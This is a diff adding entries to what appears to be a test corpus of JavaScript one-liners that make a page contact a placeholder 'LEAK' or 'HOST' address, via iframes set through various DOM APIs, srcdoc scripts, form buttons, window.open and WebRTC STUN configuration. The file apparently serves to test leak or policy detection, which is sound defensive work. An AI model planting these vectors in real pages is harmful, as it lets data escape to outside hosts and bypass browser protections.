@@ -14,6 +14,10 @@ const f = document.createElement('IFRAME'); f.setAttribute('SRC', '//HOST/'); do
 const f = document.createElement('iframe'); f.setAttributeNS(null, 'src', 'LEAK'); document.body.append(f);
 // frame aimed by setAttributeNode
 const f = document.createElement('iframe'); const a = document.createAttribute('src'); a.value = 'LEAK'; f.setAttributeNode(a); document.body.append(f);
+// frame aimed by setAttribute with one value too many
+const f = document.createElement('iframe'); f.setAttribute('src', 'LEAK', 0); document.body.append(f);
+// frame aimed by setAttributeNodeNS
+const f = document.createElement('iframe'); const a = document.createAttributeNS(null, 'src'); a.value = 'LEAK'; f.setAttributeNodeNS(a); document.body.append(f);
 // beyond: frame aimed by the value of an attribute
 const f = document.createElement('iframe'); f.setAttribute('src', 'about:blank'); document.body.append(f); f.getAttributeNode('src').value = 'LEAK';
 // beyond: frame aimed by the node value of an attribute
@@ -58,6 +62,8 @@ const p = document.createElement('p'); document.body.append(p); p.attachShadow({
 const f = document.createElement('iframe'); f.srcdoc = '<iframe src="LEAK"></iframe>'; document.body.append(f);
 // frame in srcdoc by innerHTML
 document.body.innerHTML = '<iframe srcdoc="<iframe src=LEAK></iframe>"></iframe>';
+// beyond: frame by a script in srcdoc
+const f = document.createElement('iframe'); f.srcdoc = '<body><script>document.body.append(Object.assign(document.createElement("iframe"), {src: "LEAK"}))</scr' + 'ipt>'; document.body.append(f);
 // frame by the script of a frame in srcdoc
 const f = document.createElement('iframe'); f.srcdoc = '<body>'; f.onload = () => { f.contentDocument.body.innerHTML = '<iframe src="LEAK"></iframe>'; }; document.body.append(f);
 // frame in a fresh frame's document
@@ -82,6 +88,10 @@ const f = document.createElement('iframe'); f.name = 'aimed'; const o = document
 const f = document.createElement('iframe'); f.name = 'aimed'; const o = document.createElement('form'); o.target = 'aimed'; o.action = 'LEAK'; document.body.append(f, o); o.requestSubmit();
 // frame aimed by a link
 const f = document.createElement('iframe'); f.name = 'aimed'; const a = document.createElement('a'); a.target = 'aimed'; a.href = 'LEAK'; document.body.append(f, a); a.click();
+// beyond: frame aimed by the button of a form
+const f = document.createElement('iframe'); f.name = 'aimed'; const o = document.createElement('form'); const b = document.createElement('button'); b.formTarget = 'aimed'; b.formAction = 'LEAK'; o.append(b); document.body.append(f, o); b.click();
+// beyond: frame aimed by its window's own open
+const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open('LEAK', '_self');
 // object made and put in
 const o = document.createElement('object'); o.type = 'text/html'; o.data = 'LEAK'; document.body.append(o);
 // embed made and put in
@@ -110,6 +120,8 @@ document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: '
 const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["LEAK"]}],"prerender":[{"source":"list","urls":["LEAK"]}]}'; document.head.append(s);
 // WebRTC
 const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:3478'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o));
+// WebRTC, its servers set later
+const c = new RTCPeerConnection(); c.setConfiguration({iceServers: [{urls: 'stun:HOST:3478'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o));
 // WebAuthn
 navigator.credentials.get({publicKey: {challenge: new Uint8Array(8), rpId: 'HOST'}}).catch(() => {});
 // identity provider
